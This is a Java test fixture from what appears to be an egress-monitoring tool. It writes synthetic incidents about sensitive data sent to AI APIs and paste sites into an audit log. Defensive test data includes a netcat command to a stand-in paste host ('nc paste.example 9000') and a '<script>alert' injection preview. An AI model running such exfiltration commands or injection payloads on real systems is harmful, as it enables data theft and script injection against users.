package dev.egressguard.agent.cli;

import dev.egressguard.config.Endpoint;
import dev.egressguard.config.EndpointCategory;
import dev.egressguard.config.PatternType;
import dev.egressguard.config.RiskLevel;
import dev.egressguard.config.RuleKind;
import dev.egressguard.engine.Action;
import dev.egressguard.engine.audit.AuditLog;
import dev.egressguard.engine.audit.DecisionRecords;
import dev.egressguard.engine.decision.Decision;
import dev.egressguard.engine.decision.Target;
import dev.egressguard.engine.incident.IncidentRecords;
import dev.egressguard.engine.incident.IncidentTracker;
import dev.egressguard.engine.inspect.Detection;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * A trail of mixed incidents spread over ten days, written through the real audit log, with
 * the expected counts kept alongside so tests compare against what was generated.
 */
final class TrailFixture {
    static final Endpoint[] TOOLS = {
        new Endpoint("openai", "OpenAI API", EndpointCategory.API, List.of("api.openai.com"), List.of(), RiskLevel.HIGH, "", null),
        new Endpoint("anthropic", "Anthropic API", EndpointCategory.API, List.of("api.anthropic.com"), List.of(), RiskLevel.HIGH, "", null),
        new Endpoint("pastebin", "Pastebin", EndpointCategory.EXFIL, List.of("pastebin.com"), List.of(), RiskLevel.CRITICAL, "", null),
        new Endpoint("chatgpt", "ChatGPT", EndpointCategory.CHAT, List.of("chatgpt.com"), List.of(), RiskLevel.HIGH, "", null),
        new Endpoint("copilot", "GitHub Copilot", EndpointCategory.CODE, List.of("api.githubcopilot.com"), List.of(), RiskLevel.MEDIUM, "", null),
    };
    static final PatternType[] TYPES = {PatternType.SSN, PatternType.CREDIT_CARD, PatternType.API_KEY, PatternType.EMAIL,
        PatternType.PROMPT_INJECTION, PatternType.CUSTOM_KEYWORD, PatternType.PHONE};
    static final Action[] ACTIONS = {Action.BLOCK, Action.BLOCK, Action.WARN, Action.REDACT};
    static final String[] AGENTS = {"checkout-service", "support-bot", "nightly-etl"};

    final Path audit;
    final List<String> ids = new ArrayList<>();
    final List<Map<String, Object>> incidents = new ArrayList<>();
    long records;

    TrailFixture(Path audit) {
        this.audit = audit;
    }

    /** n incidents, each with its decision record, plus clean decisions in between; one preview tries HTML injection. */
    TrailFixture write(int n, String key) throws Exception {
        AuditLog log = AuditLog.open(audit, key, 100L << 20, "fixture");
        Random rnd = new Random(42);
        long start = System.currentTimeMillis() - 10L * 24 * 3600 * 1000;
        List<Map<String, Object>> batch = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            long t = start + (long) i * (10L * 24 * 3600 * 1000) / n + rnd.nextInt(60_000);
            Decision d = decision(i, rnd);
            String agent = AGENTS[i % AGENTS.length];
            String id = IncidentTracker.newId();
            ids.add(id);
            batch.add(DecisionRecords.decision(d, agent, 4242, t, id));
            Map<String, Object> opened = IncidentRecords.opened(d, id, agent, 4242, t);
            batch.add(opened);
            incidents.add(opened);
            if (i % 5 == 0) {
                batch.add(DecisionRecords.decision(clean(i), agent, 4242, t + 1, null));
            }
            if (i % 7 == 0) {
                batch.add(IncidentRecords.repeated(d, id, 2, agent, 4242, t + 2));
            }
        }
        records += batch.size();
        log.append(batch);
        return this;
    }

    private static Decision decision(int i, Random rnd) {
        Decision.Builder b = new Decision.Builder();
        Endpoint e = TOOLS[i % TOOLS.length];
        String host = e.domains().get(0);
        b.kind = RuleKind.NETWORK_REQUEST;
        b.channel = i % 2 == 0 ? "okhttp" : "jdk-httpclient";
        b.method = "POST";
        b.target = new Target("https://" + host + "/v1/messages", host, e, e.riskLevel(), false);
        if (i % 11 == 3) {
            b.kind = RuleKind.SHELL_EXEC;
            b.channel = "process";
            b.method = null;
            b.command = "nc paste.example 9000";
            b.target = new Target("tcp://paste.example:9000/", "paste.example", null, RiskLevel.HIGH, false);
        }
        b.action = ACTIONS[i % ACTIONS.length];
        b.enforced = i % 13 != 0;
        PatternType type = TYPES[i % TYPES.length];
        List<Detection> dets = new ArrayList<>();
        for (int k = 0; k <= i % 3; k++) {
            dets.add(new Detection(type, 10 + k * 20, 21 + k * 20, 0.9, "body", "plain", null, "v" + k, false, null));
        }
        b.detections = dets;
        b.riskScore = 20 + rnd.nextInt(80);
        b.reason = type + " detected in request body to " + e.name();
        b.content = ("content " + i).getBytes(StandardCharsets.UTF_8);
        b.contentBytes = 300 + i;
        String preview = i == 1 ? "<script>alert('x')</script> summarise the ticket of [REDACTED]"
                : "Customer wrote: please update my record, my number is [REDACTED] and card [REDACTED]. Ticket " + i;
        b.previewSource = () -> preview;
        return b.build();
    }

    private static Decision clean(int i) {
        Decision.Builder b = new Decision.Builder();
        b.kind = RuleKind.NETWORK_REQUEST;
        b.channel = "okhttp";
        b.method = "POST";
        b.target = new Target("https://api.openai.com/v1/chat/completions", "api.openai.com", TOOLS[0], RiskLevel.HIGH, false);
        b.content = ("clean " + i).getBytes(StandardCharsets.UTF_8);
        return b.build();
    }

    long count(String field, Object value) {
        return incidents.stream().filter(m -> value.equals(m.get(field))).count();
    }
}
